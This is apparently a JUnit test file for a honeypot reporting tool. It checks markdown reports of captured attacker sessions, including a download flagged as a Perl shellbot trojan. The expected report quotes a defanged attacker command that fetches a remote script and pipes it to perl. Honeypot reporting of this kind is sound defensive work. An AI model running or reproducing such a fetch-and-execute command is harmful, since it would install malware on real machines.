package io.github.cowriekit.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.model.SessionEnd;
import io.github.cowriekit.model.intel.EnrichedSession;
import io.github.cowriekit.report.fixtures.Diary;
import io.github.cowriekit.report.fixtures.WrittenReports;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.Test;

class MarkdownReportTest {
    @Test
    void hasATableOfFactsAndFilesAndTheCommands() {
        assertThat(WrittenReports.write(Reports.markdown(), List.of(Diary.perlBot())))
                .isEqualTo("""
                        ## Session 8d39860bce79

                        | | |
                        | --- | --- |
                        | Duration | 3.12 s |
                        | Protocol | ssh |
                        | Source | 45.79.54.105 |
                        | Network | AS63949 Akamai Connected Cloud |
                        | Country | US |
                        | Network Kind | hosting |
                        | Login | root / qwerty123456 |
                        | Commands | 1 |

                        | File | SHA-256 | From | Destination | Known As |
                        | --- | --- | --- | --- | --- |
                        | download | bb4c8ee23103cd57741a1008552dae1038c17c505dd16f80571d795d91892cad | http\\[\\://\\]103\\[.\\]52\\[.\\]134\\[.\\]51/csx/perlNIK |  | 39 of 39 engines, trojan.perl/shellbot (virustotal) |

                        | Asked About | Source | Answer |
                        | --- | --- | --- |
                        | 45\\[.\\]79\\[.\\]54\\[.\\]105 | dshield | ASNAME: LINODE-AP Linode, LLC · ASCOUNTRY: US |
                        | 45\\[.\\]79\\[.\\]54\\[.\\]105 | spur | SPUR ASN: 63949 · SPUR ASN Organization: Akamai Connected Cloud · SPUR Organization: Linode · SPUR Infrastructure: DATACENTER · SPUR Client Behaviors: \\['TOR_PROXY_USER'\\] · SPUR Location: Richardson, Texas, US |
                        | 103\\[.\\]52\\[.\\]134\\[.\\]51 | dshield | ASNAME: MCN-BD Kazi Sazzad Hossain TA Millennium Computers \\& Networking · ASCOUNTRY: BD |
                        | 103\\[.\\]52\\[.\\]134\\[.\\]51 | spur | SPUR ASN: 139009 · SPUR ASN Organization: Millennium Computers \\& Networking · SPUR Location: Dhaka, Dhaka Division, BD |
                        | bb4c8ee23103cd57741a1008552dae1038c17c505dd16f80571d795d91892cad | virustotal | VT Description: Perl · VT Threat Classification: trojan.perl/shellbot · VT First Submission: 2023-05-15 07:28:09 UTC · VT Malicious Hits: 39 |

                        ```text
                        wget -qO - 103[.]52[.]134[.]51/csx/perlNIK|perl
                        ```

                        """);
    }

    @Test
    void fencesCommandsThatHoldFences() {
        assertThat(commands("```` x", "id")).contains("\n`````text\n```` x\nid\n`````\n");
    }

    @Test
    void countsTheCommandsItDoesNotShow() {
        assertThat(commands(Collections.nCopies(130, "w").toArray(String[]::new)))
                .contains("… and 30 more commands\n")
                .hasSizeLessThan(2_000);
    }

    private static String commands(String... inputs) {
        return WrittenReports.write(
                Reports.markdown(),
                List.of(EnrichedSession.of(Diary.session("aaaaaaaaaaaa", "192.0.2.1", SessionEnd.CLOSED)
                        .commands(List.of(inputs).stream().map(Diary::command).toList())
                        .build())));
    }
}
